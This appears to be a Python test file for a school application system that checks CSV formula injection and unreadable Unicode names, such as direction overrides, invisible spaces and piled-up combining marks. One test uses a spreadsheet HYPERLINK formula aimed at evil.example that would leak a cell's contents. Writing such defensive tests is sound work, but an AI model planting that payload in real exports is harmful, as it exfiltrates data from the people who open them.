"""Hostile text (R42): refused at the boundary, neutralised where it leaves for a spreadsheet,
shown without its control characters where it is echoed. Property tests over any text."""

from __future__ import annotations

import csv
import json
import unicodedata
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.errors import InvalidInput
from app.services.audit import AuditFilter
from app.services.staff import StaffIdentity
from app.text import FORMULA_START, printable, refuse_unreadable, safe_cell, unreadable
from tests.factories import submit_application

FORMAT_CHARS = st.sampled_from(["\u202e", "\u202d", "\u200b", "\u200c", "\u200d", "\u2066",
                                "\u2069", "\ufeff", "\u2060", "\u061c"])  # fmt: skip


@given(st.text())
def test_r42_no_csv_cell_starts_a_formula(value):
    cell = safe_cell(value)
    assert not cell.startswith(FORMULA_START)
    assert cell in (value, "'" + value)  # the text itself is kept, only marked as text


@given(st.text())
def test_r42_what_is_echoed_holds_no_control_character(value):
    shown = printable(value)
    assert not any(unicodedata.category(ch) == "Cc" for ch in shown)
    assert len(shown) == len(value)


@given(st.text(), FORMAT_CHARS, st.text())
def test_r42_a_name_with_a_direction_mark_or_an_invisible_space_is_refused(before, mark, after):
    assert unreadable(before + mark + after)
    with pytest.raises(InvalidInput) as err:
        refuse_unreadable(before + mark + after, "name")
    assert err.value.field == "name"


@given(st.lists(st.sampled_from("王小明陳美華吳三寶ABCabcéñ林 "), min_size=1, max_size=20))
def test_r42_ordinary_names_are_accepted(letters):
    name = "".join(letters)
    assert unreadable(name) == (not name.strip())


@given(st.integers(min_value=4, max_value=60))
def test_r42_piled_up_combining_marks_are_refused(count):
    assert unreadable("a" + "\u0301" * count) and not unreadable("e\u0301\u0302")


@pytest.fixture
def staff(roster):
    return {short: StaffIdentity.of(teacher) for short, teacher in roster.teachers.items()}


def test_r42_a_formula_as_a_staff_name_is_text_in_the_audit_csv(services, roster, staff):
    """The roster name =HYPERLINK(…) reached IT's audit CSV (UTF-8 with a BOM, for Excel) as a
    live formula."""
    lee = roster.teachers["lee"]
    lee.name = '=HYPERLINK("http://evil.example/"&B2,"Open")'
    lee.save()
    [done] = submit_application(services, roster, ("wu",))
    services.review.approve(StaffIdentity.of(lee), done.number)
    path = Path(services.audit_log.export(staff["it"], AuditFilter(actor="staff")).path)
    with path.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    names = {r["actor_name"] for r in rows}
    assert "'" + lee.name in names
    assert not any(cell.startswith(FORMULA_START) for r in rows for cell in r.values())


def test_r42_an_unreadable_parent_name_is_refused_at_the_kiosk(services, roster):
    with pytest.raises(InvalidInput) as err:
        submit_application(services, roster, ("wu",), name="\u200b\u200b\u200b")
    assert err.value.field == "name"
    assert "ordinary letters" in err.value.message("en")


def test_r42_a_roster_with_unreadable_names_is_refused_row_by_row(services, tmp_path):
    header = ("school_code,school_name,level,class,student_id,student_name,teacher_email,"
              "teacher_name")  # fmt: skip
    lines = [header,
             "E009,臺北市和平國小,國小,301,A123456789,吳\u202e寶,t@school.example,李老師",
             "E009,臺北市和平國小,國小,301,A223456789," + "a" + "\u0301" * 49
             + ",t@school.example,李老師"]  # fmt: skip
    path = tmp_path / "r.csv"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    report = services.roster.import_csv(path)
    keys = {p.key for p in report.problems}
    assert "errors.text.unreadable" in keys and len(report.problems) == 2
    assert json.dumps([p.column for p in report.problems]).count("student_name") == 2
